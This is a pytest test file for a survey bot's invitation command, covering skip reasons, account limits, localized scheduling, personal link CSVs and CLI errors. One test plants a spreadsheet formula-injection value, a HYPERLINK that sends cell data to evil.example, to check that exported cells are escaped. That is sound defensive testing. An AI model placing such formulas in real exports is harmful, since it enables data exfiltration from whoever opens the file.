"""`sada invite`: who is invited, who is skipped and why, links for those without a chat."""

from __future__ import annotations

import csv
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlmodel import select

from bot.channels.telegram.channel import CHANNEL as TELEGRAM_CHANNEL
from bot.flow.loader import load_flow_text
from bot.flow.model import Flow
from bot.followups.contacts_csv import import_contacts, parse_contacts
from bot.followups.invite import (
    Audience,
    InviteError,
    InviteReport,
    allot_places,
    check_context,
    contacts_from_file,
    invite_contacts,
    parse_at,
    resolve_flow,
    start_keyboard,
)
from bot.messaging import links as messaging_links
from bot.messaging.registry import Channel, DeepLinks, Registry
from bot.messaging.transport import Button
from bot.settings import get_settings
from storage.db import Database
from storage.invitations import create_invitation
from storage.models import Contact, Invitation, LinkToken, Outbox
from storage.repo import Store
from tests.followups.outbox_fakes import rendered, rendered_text
from tests.followups.test_contacts import FIXTURES, STAKEHOLDERS, cli_db, runner, sada

__all__ = ["FLOW_YAML", "cli_db", "flow", "invite", "load_stakeholders"]

SUNDAY = datetime(2026, 11, 22, 4, 0, tzinfo=UTC)  # 07:30 in Tehran, 07:00 in Riyadh

FLOW_YAML = """\
id: account-review
languages: [ar, fa, en]
default_language: en
title:
  ar: "مراجعة الحساب"
  fa: "بازبینی حساب"
  en: "Account review"
context: [touchpoint]
fatigue: 30d
reminders:
  after: [2d, 5d]
  window: "09:00-18:00"
account_limit:
  max: 2
  window: 30d
intro:
  ar: "مرحبًا {first_name}"
  fa: "سلام {first_name}"
  en: "Hello {first_name}"
outro:
  ar: "شكرًا لكم"
  fa: "سپاسگزاریم"
  en: "Thank you"
groups:
  - id: main
    title: {ar: "عام", fa: "کلی", en: "General"}
    questions:
      - id: nps
        type: nps
        text:
          ar: "ما مدى احتمال أن توصوا بنا؟"
          fa: "چقدر احتمال دارد ما را توصیه کنید؟"
          en: "How likely are you to recommend us?"
"""


def flow(yaml: str = FLOW_YAML, **changes: object) -> Flow:
    loaded = load_flow_text(yaml).flow
    return loaded.model_copy(update=changes) if changes else loaded


async def load_stakeholders(database: Database) -> None:
    await import_contacts(database, parse_contacts(STAKEHOLDERS).rows, now=SUNDAY)


async def invite(
    database: Database, the_flow: Flow, *, at: datetime = SUNDAY, links: Path | None = None,
    username: str | None = "sada_test_bot", dry_run: bool = False, **audience: str,
) -> InviteReport:
    return await invite_contacts(
        database, flow=the_flow, audience=Audience(**audience), at=at,
        context={"touchpoint": "qbr"}, now=at, bot_username=username, links_out=links,
        dry_run=dry_run)


async def _contact(store: Store, external_id: str) -> Contact:
    channel = "external" if external_id.startswith("CRM") else "telegram"
    found = await store.find_contact(channel, external_id)
    assert found is not None and found.id is not None
    return found


async def _rows(database: Database, model: type) -> list:  # type: ignore[type-arg]
    async with database.session() as s, s.begin():
        rows = list((await s.exec(select(model))).all())
    return sorted(rows, key=lambda row: getattr(row, "id", 0) or 0)


# --- who is invited -----------------------------------------------------------------------


async def test_skips_are_counted_by_reason(database: Database, store: Store,
                                           tmp_path: Path) -> None:
    await load_stakeholders(database)
    the_flow = flow()
    await store.set_contact_flags((await _contact(store, "2002")).id or 0, opted_out=True)
    await store.set_contact_flags((await _contact(store, "2001")).id or 0, unreachable=True)
    maryam = await _contact(store, "1004")  # Pars Steel's decision maker, asked 10 days ago
    async with database.session() as s, s.begin():
        await create_invitation(s, contact_id=maryam.id or 0, flow_id=the_flow.id, context={},
                                status="sent", due_at=SUNDAY - timedelta(days=10),
                                sent_at=SUNDAY - timedelta(days=10), now=SUNDAY)
    links = tmp_path / "links.csv"
    report = await invite(database, the_flow, segment="enterprise", links=links)

    # Pars Steel: Maryam already holds one of its 2 places, so one more goes to the buyer
    # with the lowest id (Sara); Reza and Ali are over the limit.
    assert report.summary() == ("invited 2; skipped 1 opted out, 1 unreachable, 1 surveyed "
                                "within 30d, 2 over the account limit")
    assert (report.by_message, report.by_link) == (1, 1)
    invitations = await _rows(database, Invitation)
    by_contact = {(i.contact_id, i.status, i.reason) for i in invitations if i.reason or
                  i.status != "sent" or i.contact_id != maryam.id}
    ids = {x: (await _contact(store, x)).id for x in ("1001", "1002", "1003", "2001", "2002",
                                                      "CRM-17")}
    assert by_contact == {
        (ids["1001"], "scheduled", None), (ids["1002"], "skipped", "account_limit"),
        (ids["1003"], "skipped", "account_limit"), (ids["2001"], "skipped", "unreachable"),
        (ids["2002"], "skipped", "opted_out"), (ids["CRM-17"], "sent", None),
        (maryam.id, "skipped", "fatigue"),
    }
    assert all(i.context == {"touchpoint": "qbr"} for i in invitations if i.created_at ==
               SUNDAY and i.contact_id != maryam.id)


async def test_the_message_is_in_the_contacts_language_at_their_local_time(
    database: Database, store: Store
) -> None:
    await load_stakeholders(database)
    the_flow = flow(account_limit=None)
    report = await invite(database, the_flow, segment="enterprise")
    assert report.by_message == 6 and report.by_link == 1
    outbox = {int(o.address): o for o in await _rows(database, Outbox)}
    invitations = {i.id: i for i in await _rows(database, Invitation)}
    # 04:00 UTC Sunday: 09:00 opens at 05:30 UTC in Tehran and 06:00 UTC in Riyadh, both
    # working days there.
    assert outbox[1001].due_at == datetime(2026, 11, 22, 5, 30, tzinfo=UTC)
    assert outbox[2001].due_at == datetime(2026, 11, 22, 6, 0, tzinfo=UTC)
    flows = {the_flow.id: the_flow}
    texts = {chat: await rendered_text(database, row, flows) for chat, row in outbox.items()}
    assert "بازبینی حساب" in texts[1001] and "مراجعة الحساب" in texts[2001]
    assert "سارا" in texts[1001]  # greeted by first name
    for message in outbox.values():
        invitation = invitations[message.invitation_id]
        assert message.kind == "invitation" and message.key == f"invitation:{invitation.id}"
        assert message.status == "queued" and invitation.status == "scheduled"
        assert invitation.due_at == message.due_at
        assert message.text is None  # written when sent
        written = await rendered(database, message, flows)
        ((button,),) = written.keyboard
        assert button.data == f"s1:g:{invitation.token}"
        assert len(button.data.encode()) <= 64  # Telegram's callback_data limit
    links = {link.token: link for link in await _rows(database, LinkToken)}
    for invitation in invitations.values():
        assert links[invitation.token].context == {"touchpoint": "qbr"}
        assert links[invitation.token].contact_id == invitation.contact_id


async def test_contacts_without_a_chat_get_a_personal_link_file(
    database: Database, store: Store, tmp_path: Path
) -> None:
    await load_stakeholders(database)
    links = tmp_path / "out" / "links.csv"
    report = await invite(database, flow(), segment="smb", links=links)
    assert (report.by_message, report.by_link) == (1, 1)
    assert report.links_file == links
    raw = links.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM for Arabic and Persian
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert [r["external_id"] for r in rows] == ["CRM-18"]
    row = rows[0]
    assert row["name"] == "Nguyen, Minh" and row["language"] == "en"
    token = row["link"].removeprefix("https://t.me/sada_test_bot?start=")
    link = await store.get_link(token)
    assert link is not None and link.context == {"touchpoint": "qbr"}
    assert str(link.contact_id) == row["contact_id"]
    assert not list(links.parent.glob(".*tmp"))
    # each contact's invitation, as stored: what the HTTP API answers with
    made = {i.contact_id: i.id for i in await _rows(database, Invitation)}
    assert report.invitation_ids == made and len(made) == 2
    dry = await invite(database, flow(), segment="smb", links=links, dry_run=True)
    assert dry.invitation_ids == {}


async def test_the_links_file_is_in_the_form_of_the_channel_the_registry_declares(
    database: Database, store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Invitations ask the registry for a channel's links: a channel declared by the test
    alone gets links in its own form, and the token in them opens the invitation."""
    bale = Channel("bale", "Bale", TELEGRAM_CHANNEL.capabilities, links=DeepLinks(
        url="https://ble.ir/{bot}?start={payload}", payload_characters="A-Za-z0-9_-",
        payload_length=64, button="b:{payload}"))
    monkeypatch.setattr(messaging_links, "CHANNELS", Registry([TELEGRAM_CHANNEL, bale]))
    await load_stakeholders(database)
    links = tmp_path / "links.csv"
    report = await invite_contacts(
        database, flow=flow(), audience=Audience(segment="smb"), at=SUNDAY,
        context={"touchpoint": "qbr"}, now=SUNDAY, bot_username="@sada_bale_bot",
        links_out=links, links_channel="bale")
    assert (report.by_message, report.by_link) == (1, 1)
    (row,) = csv.DictReader(links.read_text(encoding="utf-8-sig").splitlines())
    assert row["link"].startswith("https://ble.ir/sada_bale_bot?start=")
    link = await store.get_link(row["link"].removeprefix("https://ble.ir/sada_bale_bot?start="))
    assert link is not None and str(link.contact_id) == row["contact_id"]
    # the invitation's button is in the form of the channel it is sent on
    assert start_keyboard("Go", "tok", "bale") == ((Button("Go", "b:tok"),),)
    assert start_keyboard("Go", "tok") == ((Button("Go", "s1:g:tok"),),)


async def test_crm_names_that_look_like_formulas_are_written_as_text(
    database: Database, tmp_path: Path
) -> None:
    """A spreadsheet opens the links file (with its BOM, on purpose): no cell may run."""
    crm = tmp_path / "crm.csv"
    crm.write_text('external_id,name,account,role,segment\n'
                   '-17,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",+Acme,@buyer,smb\n'
                   'CRM-2,"\tTab",-,Buyer,smb\n', encoding="utf-8")
    await import_contacts(database, parse_contacts(crm).rows, now=SUNDAY)
    links = tmp_path / "links.csv"
    report = await invite(database, flow(), segment="smb", links=links)
    assert report.by_link == 2
    rows = list(csv.reader(links.read_text(encoding="utf-8-sig").splitlines()))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["external_id"] == "'-17"  # an id is text: it keeps its sign, as text
    assert first["name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    assert (first["account"], first["role"]) == ("'+Acme", "'@buyer")
    assert first["link"].startswith("https://t.me/sada_test_bot?start=")


async def test_without_the_bots_username_the_others_are_invited_and_a_later_run_links(
    database: Database, store: Store, tmp_path: Path
) -> None:
    await load_stakeholders(database)
    links = tmp_path / "l.csv"
    dry = await invite(database, flow(), segment="smb", username=None, links=links,
                       dry_run=True)
    report = await invite(database, flow(), segment="smb", username=None, links=links)
    expected = "1; skipped 1 without a reachable chat (no bot username for a link)"
    assert dry.summary() == f"would invite {expected}"  # a dry run warns the same
    assert report.summary() == f"invited {expected}"
    assert (report.by_message, report.by_link, report.links_file) == (1, 0, None)
    assert not links.exists()
    minh = await _contact(store, "CRM-18")
    assert {(i.contact_id, i.status, i.reason) for i in await _rows(database, Invitation)
            if i.contact_id == minh.id} == {(minh.id, "skipped", "no_link")}
    # with the username set, running the same command again reaches them
    again = await invite(database, flow(), segment="smb", links=links)
    assert again.summary() == "invited 1; skipped 1 surveyed within 30d"
    assert again.by_link == 1 and links.exists()


async def test_contacts_without_a_link_take_no_place_of_their_account(
    database: Database, store: Store
) -> None:
    await load_stakeholders(database)
    report = await invite(database, flow(), account="Riyadh Foods", username=None)
    # CRM-17 has no chat and no link: the account's two places go to the two with a chat
    assert report.summary() == ("invited 2; skipped 1 without a reachable chat (no bot "
                                "username for a link)")


async def test_account_limit_gives_places_to_distinct_roles_first(database: Database,
                                                                 store: Store) -> None:
    await load_stakeholders(database)
    report = await invite(database, flow(), account="Pars Steel")
    assert report.summary() == "invited 2; skipped 2 over the account limit"
    chosen = {int(o.address) for o in await _rows(database, Outbox)}
    assert chosen == {1001, 1004}  # a buyer and the decision maker, not two buyers

    # a month later the window has passed: places again, distinct roles first
    later = SUNDAY + timedelta(days=31)
    report = await invite(database, flow(), at=later, account="Pars Steel")
    assert report.summary() == "invited 2; skipped 2 over the account limit"


def test_allot_places_ranks_roles_already_present_last() -> None:
    def person(cid: int, role: str | None) -> Contact:
        return Contact(id=cid, channel="telegram", external_id=str(cid), role=role,
                       created_at=SUNDAY, updated_at=SUNDAY)

    people = [person(1, "buyer"), person(2, "buyer"), person(3, "user"), person(4, None),
              person(5, "decision_maker")]
    assert allot_places(people, {}, 3) == {1, 5, 3}
    assert allot_places(people, {9: "buyer"}, 3) == {5, 3}
    assert allot_places(people, {9: "buyer", 8: "user", 7: "x"}, 3) == set()
    assert allot_places(people, {1: "buyer"}, 2) == {1, 5}  # already in: no new place
    assert allot_places(people, {}, 5) == {1, 2, 3, 4, 5}


async def test_a_second_run_is_stopped_by_fatigue(database: Database) -> None:
    await load_stakeholders(database)
    first = await invite(database, flow(), segment="enterprise")
    assert first.invited == 4
    second = await invite(database, flow(), at=SUNDAY + timedelta(days=29),
                          segment="enterprise")
    assert second.summary() == ("invited 0; skipped 4 surveyed within 30d, 3 over the "
                                "account limit")
    third = await invite(database, flow(fatigue="7d", account_limit=None),
                         at=SUNDAY + timedelta(days=8), segment="enterprise")
    assert third.invited == 7


async def test_a_session_started_elsewhere_counts_for_fatigue(database: Database,
                                                              store: Store) -> None:
    await load_stakeholders(database)
    james = await _contact(store, "3001")
    version = await store.flow_version("account-review", FLOW_YAML, now=SUNDAY)
    await store.open_session(contact_id=james.id or 0, flow_version_id=version.id or 0,
                             flow_id="account-review", language="en", context={}, state={},
                             status="completed", position=None,
                             now=SUNDAY - timedelta(days=3))
    report = await invite(database, flow(), role="buyer", account="Thames Tools")
    assert report.summary() == "invited 0; skipped 1 surveyed within 30d"


async def test_dry_run_changes_nothing(database: Database, tmp_path: Path) -> None:
    await load_stakeholders(database)
    report = await invite(database, flow(), segment="enterprise", dry_run=True,
                          links=tmp_path / "l.csv")
    assert report.summary().startswith("would invite 4; skipped 3 over the account limit")
    assert await _rows(database, Invitation) == []
    assert not (tmp_path / "l.csv").exists()


async def test_contacts_listed_in_a_file(database: Database, store: Store,
                                         tmp_path: Path) -> None:
    await load_stakeholders(database)
    ids = await contacts_from_file(database, FIXTURES / "invite_list.csv")
    assert ids == ((await _contact(store, "2001")).id, (await _contact(store, "3001")).id)
    # the import file itself works as a list
    assert len(await contacts_from_file(database, STAKEHOLDERS)) == 9
    unknown = tmp_path / "unknown.csv"
    unknown.write_text("contact_id\n1\n999\n", encoding="utf-8")
    with pytest.raises(ValueError, match=r"unknown.csv:3: contact_id 999 is not a known"):
        await contacts_from_file(database, unknown)
    nothing = tmp_path / "nothing.csv"
    nothing.write_text("name\nSara\n", encoding="utf-8")
    with pytest.raises(ValueError,
                       match="no contact_id, bale_id, telegram_id, web_id, whatsapp_id or "
                       "external_id column"):
        await contacts_from_file(database, nothing)
    # ids no database holds, and a superscript that is not a digit: unknown, not a crash
    odd = tmp_path / "odd.csv"
    odd.write_text(f"contact_id\n{2**70}\n²\n", encoding="utf-8")
    with pytest.raises(ValueError) as raised:
        await contacts_from_file(database, odd)
    assert str(raised.value).splitlines() == [
        f"{odd}:2: contact_id {2**70} is not a known contact (import it first with `sada "
        "contacts import`)",
        f"{odd}:3: contact_id ² is not a known contact (import it first with `sada contacts "
        "import`)"]
    nul = tmp_path / "nul.csv"
    nul.write_bytes(b"external_id\nCRM-\x0017\n")
    with pytest.raises(ValueError, match=r"nul.csv:2: column 1: NUL character"):
        await contacts_from_file(database, nul)


# --- options ------------------------------------------------------------------------------


def test_parse_at() -> None:
    now = datetime(2026, 11, 22, 8, 0, tzinfo=UTC)
    assert parse_at(None, now) == now
    assert parse_at("2026-12-01T09:00+03:30", now) == datetime(2026, 12, 1, 5, 30, tzinfo=UTC)
    assert parse_at("2026-12-01 09:00", now) == datetime(2026, 12, 1, 9, 0, tzinfo=UTC)
    assert parse_at("۲۰۲۶-۱۲-۰۱ ۰۹:۰۰", now) == datetime(2026, 12, 1, 9, 0, tzinfo=UTC)
    assert parse_at("2026-12-01T09:00Z", now) == datetime(2026, 12, 1, 9, 0, tzinfo=UTC)
    assert parse_at("2020-01-01 09:00", now) == now  # the past means now
    with pytest.raises(InviteError, match=r"--at 'tomorrow' is not a time: use"):
        parse_at("tomorrow", now)
    # any digits, and times no calendar arithmetic can reach are one line, not OverflowError
    assert parse_at("२०२६-१२-०१ ०९:००", now) == datetime(2026, 12, 1, 9, 0, tzinfo=UTC)
    for far in ("9999-12-31T23:59+14:00", "0001-01-01T00:00+14:00"):
        with pytest.raises(InviteError) as raised:
            parse_at(far, now)
        assert str(raised.value) == (f"--at '{far}' is out of range: give a date between "
                                     "1970-01-01 and 2999-12-31")


def test_check_context() -> None:
    the_flow = flow()
    assert check_context(the_flow, ["touchpoint=qbr"]) == {"touchpoint": "qbr"}
    with pytest.raises(InviteError, match=r"--context ticket: flow account-review declares "
                       r"no such key \(its context keys: touchpoint\)"):
        check_context(the_flow, ["touchpoint=qbr", "ticket=T-1"])
    with pytest.raises(InviteError, match="needs a value for touchpoint: add --context "
                       "touchpoint="):
        check_context(the_flow, [])
    with pytest.raises(InviteError, match="expected KEY=VALUE"):
        check_context(the_flow, ["touchpoint"])
    with pytest.raises(InviteError, match=r"its context keys: none"):
        check_context(flow(context=[]), ["a=b"])


def test_resolve_flow(tmp_path: Path) -> None:
    (tmp_path / "review.yaml").write_text(FLOW_YAML, encoding="utf-8")
    (tmp_path / "broken.yaml").write_text("id: broken\nlanguages: [xx]\n", encoding="utf-8")
    assert resolve_flow("account-review", tmp_path).flow.id == "account-review"
    assert resolve_flow(str(tmp_path / "review.yaml"), tmp_path).flow.id == "account-review"
    with pytest.raises(InviteError, match=r"no flow 'nope' in .* flows there: account-review, "
                       "broken"):
        resolve_flow("nope", tmp_path)
    with pytest.raises(InviteError, match="fix the flow first"):
        resolve_flow("broken", tmp_path)
    with pytest.raises(InviteError, match="no such file"):
        resolve_flow(str(tmp_path / "missing.yaml"), tmp_path)


# --- the command --------------------------------------------------------------------------


def _cli_setup(tmp_path: Path) -> None:
    (tmp_path / "flows").mkdir()
    (tmp_path / "flows" / "review.yaml").write_text(FLOW_YAML, encoding="utf-8")
    result = runner.invoke(sada(), ["contacts", "import", str(STAKEHOLDERS)])
    assert result.exit_code == 0, result.output


def test_cli_invite(cli_db: str, tmp_path: Path) -> None:
    _cli_setup(tmp_path)
    result = runner.invoke(sada(), ["invite", "--flow", "account-review", "--segment",
                                    "enterprise", "--context", "touchpoint=qbr",
                                    "--at", "2026-01-01 09:00"])
    assert result.exit_code == 0, result.output
    assert "account-review: invited 4; skipped 3 over the account limit" in result.output
    assert "3 by message, due" in result.output
    assert "places went to distinct roles first" in result.output
    written = list((tmp_path / "data").glob("invite-links-account-review-*.csv"))
    assert len(written) == 1 and str(written[0].name) in result.output.replace("\n", "")

    result = runner.invoke(sada(), ["invite", "-f", "account-review", "--contacts",
                                    str(FIXTURES / "invite_list.csv"), "-c", "touchpoint=x",
                                    "--dry-run", "--links-out", str(tmp_path / "l.csv")])
    assert result.exit_code == 0, result.output
    assert "would invite 1; skipped 1 surveyed within 30d" in result.output
    assert "dry run: nothing was changed" in result.output


def test_cli_invite_on_the_readme_sample_without_a_bot_username(
    cli_db: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The README's round, as written: its sample CSV has a CRM-only contact."""
    root = Path(__file__).resolve().parents[2]
    monkeypatch.delenv("SADA_BOT_USERNAME")
    monkeypatch.setenv("SADA_FLOWS_DIR", str(root / "flows"))
    result = runner.invoke(sada(), ["contacts", "import",
                                    str(root / "docs" / "examples" / "contacts.csv")])
    assert result.exit_code == 0, result.output
    warning = ("1 without a reachable chat not invited: set SADA_TELEGRAM__BOT_USERNAME (the bot's "
               "@username) or pass --bot-username")
    command = ["invite", "--flow", "b2b-supplier", "--segment", "enterprise"]
    dry = runner.invoke(sada(), [*command, "--dry-run"])
    assert dry.exit_code == 0, dry.output
    assert "would invite 4; skipped 1 without a reachable chat" in dry.output
    assert warning in dry.output.replace("\n", " ")
    real = runner.invoke(sada(), command)
    assert real.exit_code == 0, real.output
    assert "invited 4; skipped 1 without a reachable chat" in real.output
    assert warning in real.output.replace("\n", " ")


def test_cli_invite_links_in_the_form_of_the_channel_asked_for(
    cli_db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _cli_setup(tmp_path)
    monkeypatch.setenv("SADA_BALE__BOT_USERNAME", "sada_bale_bot")
    get_settings.cache_clear()
    out = tmp_path / "bale-links.csv"
    result = runner.invoke(sada(), ["invite", "--flow", "account-review", "--segment", "smb",
                                    "-c", "touchpoint=qbr", "--links-channel", "bale",
                                    "--links-out", str(out)])
    assert result.exit_code == 0, result.output
    assert "without a reachable chat: personal links in" in result.output, result.output
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert rows and all(r["link"].startswith("https://ble.ir/sada_bale_bot?start=")
                        for r in rows)
    monkeypatch.delenv("SADA_BALE__BOT_USERNAME")
    get_settings.cache_clear()
    result = runner.invoke(sada(), ["invite", "--flow", "account-review", "--segment",
                                    "enterprise", "-c", "touchpoint=qbr", "--links-channel",
                                    "bale", "--dry-run"])
    assert result.exit_code == 0, result.output
    assert "set SADA_BALE__BOT_USERNAME" in result.output.replace("\n", " ")


@pytest.mark.parametrize(
    ("args", "code", "expected"),
    [
        (["--flow", "nope", "--segment", "x"], 2, "no flow 'nope'"),
        (["--flow", "account-review", "--segment", "x", "-c", "touchpoint=a",
          "--links-channel", "fax"], 2, "--links-channel: no channel named 'fax'"),
        (["--flow", "account-review", "--segment", "x", "-c", "touchpoint=a", "--at",
          "soon"], 2, "--at 'soon' is not a time"),
        (["--flow", "account-review", "--segment", "x", "-c", "ticket=1"], 2,
         "declares no such key (its context keys: touchpoint)"),
        (["--flow", "account-review", "--contacts", "missing.csv", "-c", "touchpoint=a"], 1,
         "missing.csv: no such file"),
        (["--flow", "account-review", "-c", "touchpoint=a"], 2, "say who to invite"),
        (["--flow", "account-review", "--segment", "x", "--contacts", "f.csv"], 2,
         "cannot be combined"),
        (["--flow", "account-review", "--segment", "nobody", "-c", "touchpoint=a"], 1,
         "no contacts match segment 'nobody'"),
        (["--flow", "account-review", "--segment", "enterprise", "-c", "touchpoint=a",
          "--at", "9999-12-31T23:59+14:00"], 2,
         "--at '9999-12-31T23:59+14:00' is out of range: give a date between 1970-01-01 "
         "and 2999-12-31"),
    ],
    ids=["unknown-flow", "unknown-links-channel", "bad-at", "bad-context", "missing-file",
         "no-audience", "two-audiences", "no-match", "far-at"],
)
def test_cli_invite_errors_are_one_line(cli_db: str, tmp_path: Path, args: list[str],
                                        code: int, expected: str) -> None:
    _cli_setup(tmp_path)
    result = runner.invoke(sada(), ["invite", *args])
    assert result.exit_code == code, result.output
    assert isinstance(result.exception, SystemExit)
    assert expected in result.output and "Traceback" not in result.output


async def test_a_contact_without_a_chat_becomes_the_chat_that_opens_its_link(
    database: Database, store: Store, tmp_path: Path
) -> None:
    from storage.invitations import adopt_chat, mark_started, on_session_status

    await load_stakeholders(database)
    await invite(database, flow(), segment="smb", links=tmp_path / "l.csv")
    minh = await store.find_contact("external", "CRM-18")
    assert minh is not None and minh.id is not None
    (invitation,) = [i for i in await _rows(database, Invitation) if i.contact_id == minh.id]
    # Minh opens the link: the bot has just created a contact for the chat
    chat = await store.upsert_contact("telegram", "777", first_name="Minh", language="en")
    assert chat.id is not None
    assert await store.adoptable(minh.id, "telegram")
    assert not await store.adoptable(chat.id + 1000, "telegram")  # no such contact
    async with database.session() as s, s.begin():
        assert await adopt_chat(s, contact_id=minh.id, chat_contact_id=chat.id, now=SUNDAY)
    adopted = await store.find_contact("telegram", "777")
    assert adopted is not None and adopted.id == minh.id
    assert adopted.first_name == "Minh" and adopted.company is None
    assert await store.get_contact(chat.id) is None
    # the company's id stays theirs; the chat is one more identity, on Telegram only
    assert (await store.find_contact("external", "CRM-18")) == adopted
    assert [(i.channel, i.address) for i in await store.identities(minh.id)] == [
        ("telegram", "777")]
    assert not await store.adoptable(minh.id, "telegram")
    assert await store.adoptable(minh.id, "bale")
    another = await store.upsert_contact("telegram", "778")
    assert another.id is not None
    async with database.session() as s, s.begin():  # a second Telegram chat is not adopted
        assert not await adopt_chat(s, contact_id=minh.id, chat_contact_id=another.id,
                                    now=SUNDAY)
    link = await store.get_link(invitation.token or "")
    assert link is not None and link.contact_id == minh.id  # the link is now theirs

    version = await store.flow_version("account-review", FLOW_YAML, now=SUNDAY)
    session = await store.open_session(
        contact_id=minh.id, flow_version_id=version.id or 0, flow_id="account-review",
        language="en", context=link.context, state={}, status="active", position="nps",
        now=SUNDAY)
    async with database.session() as s, s.begin():
        await mark_started(s, token=invitation.token or "", session_id=session.id or 0,
                           now=SUNDAY)
        await on_session_status(s, session_id=session.id or 0, contact_id=minh.id,
                                flow_id="account-review", status="completed", now=SUNDAY)
    (done,) = [i for i in await _rows(database, Invitation) if i.contact_id == minh.id]
    assert (done.status, done.session_id) == ("completed", session.id)

    # a Telegram contact's link is not taken over by another chat
    other = await store.upsert_contact("telegram", "778")
    async with database.session() as s, s.begin():
        assert not await adopt_chat(s, contact_id=minh.id, chat_contact_id=other.id or 0,
                                    now=SUNDAY)
